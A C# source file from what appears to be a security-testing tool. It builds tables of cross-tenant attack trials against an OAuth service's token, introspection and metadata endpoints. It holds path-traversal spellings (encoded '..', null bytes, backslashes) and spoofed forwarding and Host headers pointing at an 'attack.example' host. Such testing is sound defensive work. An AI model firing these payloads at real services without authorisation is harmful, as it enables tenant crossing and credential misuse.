using static Argus.Cli.Attacks.Tables.Trials;

namespace Argus.Cli.Attacks.Tables;

/// <summary>
/// A's secret and A's token under targets that one reader takes for B and another for A: a proxy, a framework and an application that do not agree on which tenant
/// is meant is how tenants are crossed.
/// </summary>
internal static class SpellingAttacks
{
    private const string Path = "RFC 3986 §6.2, CWE-22, CWE-436";
    private const string Header = "CWE-348, CWE-644: the issuer comes from configuration";

    public static IEnumerable<Trial> All(Battlefield field) =>
    [
        .. Spellings(field.A, field.B).SelectMany(spelling => Both($"at {Named(field, spelling)}", Path, field.Root + spelling)),
        .. Headers(field).SelectMany(header => Both($"at B, with {header.Name}: {Named(field, header.Value)}", Header, field.B.Issuer, header)),
        .. Headers(field).Select(header => new Trial("metadata of B", Resources.Metadata, $"asked for with {header.Name}: {Named(field, header.Value)}", Header, async now =>
        {
            var answer = await now.Wire.GetAsync($"{now.B.Issuer}/.well-known/openid-configuration", header).ConfigureAwait(false);
            return Finding.Attack(answer, answer.IsSuccess && (answer.Text("issuer") != now.B.Issuer || answer.Text("token_endpoint") != now.B.TokenUrl));
        })),
    ];

    private static string[] Spellings(Side a, Side b) =>
    [
        $"/t/{a.Name}/../{b.Name}", $"/t/{b.Name}/../{a.Name}", $"/t/{a.Name}/%2e%2e/{b.Name}", $"/t/{b.Name}/%2e%2e/{a.Name}", $"/t/{a.Name}%2f..%2f{b.Name}", $"/t/{b.Name}%2f..%2f{a.Name}",
        $"/t/{b.Name}/t/{a.Name}", $"/t/{a.Name}/t/{b.Name}", $"/t/{b.Name}\\..\\{a.Name}", $"/t/{b.Name};{a.Name}", $"/t/{b.Name}%00{a.Name}",
        $"/t/{b.Name.ToUpperInvariant()}", $"/T/{b.Name}", $"//t/{b.Name}", $"/t//{b.Name}", $"/t/./{b.Name}", $"/t/%61{b.Name[1..]}",
    ];

    private static (string Name, string Value)[] Headers(Battlefield field)
    {
        var (a, host) = (field.A, $"{field.A.Name}.attack.example");
        return
        [
            ("X-Forwarded-Host", host), ("Forwarded", $"host={host};proto=https"), ("X-Forwarded-Prefix", $"/t/{a.Name}"), ("X-Original-URL", $"/t/{a.Name}/oauth/token"),
            ("X-Rewrite-URL", $"/t/{a.Name}/oauth/introspect"), ("X-Tenant", a.Name), ("Host", host),
        ];
    }

    private static IEnumerable<Trial> Both(string where, string source, string issuer, params (string Name, string Value)[] headers) =>
    [
        Attack(Credentials.ClientSecret, Resources.Token, $"A's {where}", source,
            field => field.Wire.PostAsync($"{issuer}/oauth/token", field.A.ByBasic, Battlefield.ClientCredentials, headers), Finding.Token),
        Attack(Credentials.ServiceToken, Resources.Introspection, $"A's {where}, asked by A's API", source,
            field => field.Wire.PostAsync($"{issuer}/oauth/introspect", field.A.AsApi, [("token", field.A.Show(Credentials.ServiceToken))], headers), Finding.Active),
    ];

    /// <summary>As the table shows it: the tenants' names are long.</summary>
    private static string Named(Battlefield field, string text) => text
        .Replace(field.B.Name, "b", StringComparison.Ordinal).Replace(field.B.Name.ToUpperInvariant(), "B", StringComparison.Ordinal)
        .Replace(field.A.Name, "a", StringComparison.Ordinal).Replace(field.B.Name[1..], "…b", StringComparison.Ordinal);
}
